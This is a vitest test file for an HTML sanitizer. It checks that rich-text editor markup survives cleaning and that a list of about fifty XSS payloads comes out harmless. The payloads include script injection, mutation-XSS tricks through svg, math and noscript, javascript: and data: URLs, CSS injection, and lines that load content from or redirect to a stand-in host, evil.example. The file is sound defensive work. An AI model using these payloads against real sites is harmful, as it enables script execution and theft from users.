// What the editor can make survives unchanged; whatever else is written, no script and no foreign markup comes out.
import { describe, expect, test } from 'vitest';
import { cleanCreative, cleanRichText } from './rich-text.ts';

describe("everything of the specification's editor survives", () => {
  test.each([
    ...[8, 9, 10, 11, 12, 14, 18, 24, 36].map((size) => `<p><span style="font-size:${size}px">x</span></p>`),
    ...['Courier New', 'Fira Sans', 'Times New Roman'].map(
      (font) => `<p><span style="font-family:${font}">x</span></p>`,
    ),
    '<p>Normal</p>',
    '<blockquote><p>Quote</p></blockquote>',
    '<pre><code>Code</code></pre>',
    ...[1, 2, 3, 4, 5, 6].map((level) => `<h${level}>Header</h${level}>`),
    '<p><strong>b</strong><em>i</em><u>u</u><s>s</s></p>',
    '<ul><li><p>one</p></li></ul>',
    '<ol><li><p>one</p></li></ol>',
    '<p style="text-align:center">x</p>',
    '<p><span style="color:#ff0000">x</span></p>',
    '<p><span style="color:rgb(255, 0, 0)">x</span></p>',
    '<p>a<br />b</p>',
    '<p><a href="https://shop.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a></p>',
    '<p><a href="mailto:help@shop.example" rel="noopener noreferrer nofollow" target="_blank">x</a></p>',
    '<p>3 &lt; 4 &amp; ₹500 — हिन्दी 💧</p>',
  ])('%s', (html) => {
    expect(cleanRichText(html)).toBe(html);
  });
  test('quoted fonts with a fallback family, as some editors write them', () => {
    expect(cleanRichText('<span style="font-family: &quot;Courier New&quot;, monospace">x</span>')).toContain(
      'Courier New',
    );
  });
  test('a link gets its rel whatever it came with', () => {
    expect(cleanRichText('<a href="https://x.example" rel="opener" target="_top" onclick="x()">x</a>')).toBe(
      '<a href="https://x.example" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
  });
  test('nothing stays nothing', () => {
    expect(cleanRichText(null)).toBeNull();
    expect(cleanRichText('')).toBeNull();
    expect(cleanRichText('<script>x</script>')).toBeNull();
  });
});

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/am/offers">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image:url(https://evil.example/x.png)">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red;position:fixed;inset:0">x</p>',
  '<p style="font-family:url(https://evil.example/f)">x</p>',
  '<p style="font-size:999px">x</p>',
  '<p style="color:#fff\\22;}*{background:url(//evil.example)}">x</p>',
  '<p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '<p id="root" class="mantine-Button" name="x" data-x="1" tabindex=1>x</p>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=p><button>x</button></form>',
  '<template><script>alert(1)</script></template>',
  '<video src=x onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>\u0000<script\u0000>alert(1)</script></p>',
  '<a href="https://x.example" style="x:y" href="javascript:alert(1)">x</a>',
];

const TAG = /<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g;
const TAGS = new Set('p br hr span h1 h2 h3 h4 h5 h6 blockquote pre code strong b em i u s ul ol li a'.split(' '));
/** reads the answer as strictly as it can be read: every "<" must begin a known tag with known attributes */
function faultsOf(html: string): string[] {
  const faults: string[] = [];
  const rest = html.replaceAll(TAG, (tag, name: string, attributes: string) => {
    if (!TAGS.has(name)) faults.push(`tag ${tag}`);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/\s+([a-z-]+)="([^"]*)"/g)) {
      const isFine =
        (attribute === 'href' && /^(https?:\/\/|mailto:)/.test(value)) ||
        attribute === 'rel' ||
        attribute === 'target' ||
        (attribute === 'style' && !/url|expression|position|\\|[{}]/i.test(value));
      if (!isFine) faults.push(`${attribute} of ${tag}`);
    }
    return '';
  });
  if (/[<>]/.test(rest)) faults.push(`loose bracket in ${rest}`);
  return faults;
}

describe('no attack comes through, and a second cleaning finds nothing more to do', () => {
  test.each(attacks)('%s', (html) => {
    const clean = cleanRichText(html) ?? '';
    expect(faultsOf(clean)).toEqual([]);
    expect(cleanRichText(clean) ?? '').toBe(clean);
    const creative = cleanCreative(html);
    expect(creative).not.toMatch(
      /<(script|svg|math|iframe|object|embed|form|style|meta|base|link)|\son\w+=|javascript:/i,
    );
    expect(cleanCreative(creative)).toBe(creative);
  });
});

test("an advertisement's markup keeps its pictures by http(s) alone", () => {
  expect(
    cleanCreative('<a href="https://a.example"><img src="https://b.example/x.png" width="300" onerror="x()"></a>'),
  ).toBe(
    '<a href="https://a.example" rel="noopener noreferrer nofollow" target="_blank"><img src="https://b.example/x.png" alt="" width="300" /></a>',
  );
  expect(cleanCreative('<img src="data:image/svg+xml,<svg/>">')).toBe('<img alt="" />');
});
